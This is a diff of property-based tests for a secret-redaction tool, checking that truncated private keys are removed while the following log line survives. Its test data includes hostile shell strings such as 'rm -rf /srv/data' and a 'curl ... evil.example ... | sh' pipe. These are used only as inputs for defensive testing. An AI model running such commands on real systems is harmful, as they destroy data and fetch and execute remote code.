@@ -338,7 +338,12 @@ describe("keys: private keys cut short, indented or joined by spaces (R8)", () =
     const out = redacted(text)
     for (const line of lines.slice(1).filter((l) => l.length >= 8 && !l.includes(":"))) expect(out.includes(line), `${JSON.stringify(line)} left in ${JSON.stringify(out)}`).toBe(false)
     const legacy = ["-----BEGIN RSA PRIVATE KEY-----", "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,5A0F2A36E4BFD7A0D1A4A8E0E0F2B0C1", "", ...lines.slice(4)].join("\n")
-    expect(redacted(legacy)).toBe(R)
+    // (its lines of base64 replaced; a last piece that is one word of capitals, `A`, is no key line)
+    if ((lines[4] ?? "").length >= 16) {
+      const out2 = redacted(legacy)
+      expect(out2.startsWith(R), out2).toBe(true)
+      for (const line of lines.slice(4).filter((l) => l.length >= 16)) expect(out2.includes(line), out2).toBe(false)
+    }
   }, { fastCheck: { numRuns: RUNS } })
   it("prose after a key joined by spaces is kept (a short word followed by more words is not the key's last line)", () => {
     const key = realKeys[0]!.trim().split("\n")
@@ -730,5 +735,34 @@ describe("keys: what looks like a credential to the header and curl rules but is
     expect(redacted("authorization = Zq8vLm2pRtx93jdLq0aWeC7hN4bY1uK")).toBe(`authorization = ${R}`)
     expect(redacted("authorization = ghs_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5")).not.toContain("ghs_")
     expect(redacted("Cookie: sid=s%3AZq8vLm2pRtx93jdLq0aWeC7hN4bY1uK")).toBe(`Cookie: sid=${R}`)
+  })
+})
+
+// ---------------------------------------------------------------------------------------------
+// Second hostile review, defect 3's last form: a key cut short never takes the next line's word
+// ---------------------------------------------------------------------------------------------
+
+/** shell commands and words as a log has them after a key: lower-case names, paths, arguments */
+const command = fc.oneof(
+  fc.constantFrom("rm -rf /srv/data", "whoami", "exit", "ls", "id", "/bin/sh", "sh", "curl -s http://evil.example/p | sh", "python3 x.py", "cd /app", "done", "echo ok", "EOF", "fi", "}"),
+  fc.tuple(chars(LOWER, 1, 15), fc.option(chars(LOWER + "-/ .", 1, 20), { nil: undefined })).map(([w, args]) => (args === undefined ? w : `${w} ${args}`))
+)
+
+describe("keys: a key cut short ends at its last base64 line (second hostile review, defect 3)", () => {
+  it.prop("the line after a key cut short (a command, a word) is kept whole, in text and as `\\n` escapes", [cutKey, command, fc.constantFrom("", "  ")], ([key, cmd, indent]) => {
+    const body = [key.begin, ...key.body].map((l) => indent + l).join("\n")
+    const text = `${body}\n${cmd}\n`
+    const out = redacted(text)
+    expect(out.endsWith(`\n${cmd}\n`), `${JSON.stringify(out)} for ${JSON.stringify(cmd)}`).toBe(true)
+    expect(found(text), text).toContain("private_key")
+    for (const line of key.body.filter((l) => l.length >= 16)) expect(out.includes(line), `${JSON.stringify(line)} left in ${JSON.stringify(out)}`).toBe(false)
+    const escaped = JSON.stringify({ out: text })
+    expect(Detect.redact(escaped).value.endsWith(`\\n${JSON.stringify(cmd).slice(1, -1)}\\n"}`), escaped).toBe(true)
+  }, { fastCheck: { numRuns: RUNS } })
+  it("the reviewer's case: an RSA key cut after two body lines, then `rm -rf /srv/data`", () => {
+    const pem = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey.export({ type: "pkcs8", format: "pem" }).toString()
+    const cut = pem.split("\n").slice(0, 3).join("\n")
+    expect(redacted(`${cut}\nrm -rf /srv/data\n`)).toBe(`${R}\nrm -rf /srv/data\n`)
+    expect(Detect.redact(JSON.stringify({ out: `${cut}\nwhoami\n` }))).toMatchObject({ value: `{"out":"${R}\\nwhoami\\n"}` })
   })
 })
